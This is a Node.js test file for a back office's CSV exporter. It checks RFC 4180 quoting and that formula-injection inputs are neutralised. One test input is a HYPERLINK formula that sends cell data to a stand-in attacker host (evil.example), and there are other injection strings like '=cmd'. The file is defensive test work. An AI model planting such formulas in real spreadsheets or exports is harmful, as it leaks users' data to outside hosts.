// The back office's CSV export (server/web/js/csv.js): RFC 4180 quoting, and no cell a spreadsheet would run
// as a formula (OWASP CSV injection), while numbers stay numbers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

// The web app's modules are plain ES modules without a package.json: load the file as one.
const webDir = process.env.PVFLEET_WEB_DIR ?? new URL('../../../server/web', import.meta.url).pathname;
const source = readFileSync(join(webDir, 'js/csv.js'), 'utf8');
const { csvField, toCsv } = await import(`data:text/javascript,${encodeURIComponent(source)}`);

test('cells a spreadsheet would run as a formula get a leading quote and keep their text', () => {
  const cases = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['=1+1', `"'=1+1"`],
    ['+49 171 2345678', `"'+49 171 2345678"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=cmd', `"'\t=cmd"`],
    ['\r=cmd', `"'\r=cmd"`],
    ['  =1+1', `"'  =1+1"`],
    ['-12.5', `"'-12.5"`], // a string, even one that looks like a number
  ];
  for (const [value, expected] of cases) assert.equal(csvField(value), expected, JSON.stringify(value));
});

test('numbers stay numbers, plain text stays as it was', () => {
  assert.equal(csvField(-12.5), '-12.5');
  assert.equal(csvField(42), '42');
  assert.equal(csvField(0), '0');
  assert.equal(csvField('Anna Schmidt'), 'Anna Schmidt');
  assert.equal(csvField('a=b'), 'a=b');
  assert.equal(csvField('2026-07-01T00:00:00Z'), '2026-07-01T00:00:00Z');
  assert.equal(csvField('Hauptstr. 1, Berlin'), '"Hauptstr. 1, Berlin"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField(' padded '), '" padded "');
  assert.equal(csvField(null), '');
  assert.equal(csvField(undefined), '');
});

test('a whole export: header, rows, CRLF; an injected name cannot become a formula', () => {
  const columns = [
    { label: 'id', value: (c) => c.id },
    { label: 'name', value: (c) => c.name },
    { label: 'energy_kwh', value: (c) => c.energy },
  ];
  const csv = toCsv([{ id: 1, name: '=HYPERLINK("x")', energy: -3.25 }, { id: 2, name: 'Ben', energy: 7 }], columns);
  assert.equal(csv, `id,name,energy_kwh\r\n1,"'=HYPERLINK(""x"")",-3.25\r\n2,Ben,7\r\n`);
  for (const line of csv.trim().split('\r\n')) {
    for (const cell of line.split(',')) {
      const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
      assert.ok(!/^[=+@\t\r]/.test(unquoted), `cell ${cell} would run as a formula`);
    }
  }
});
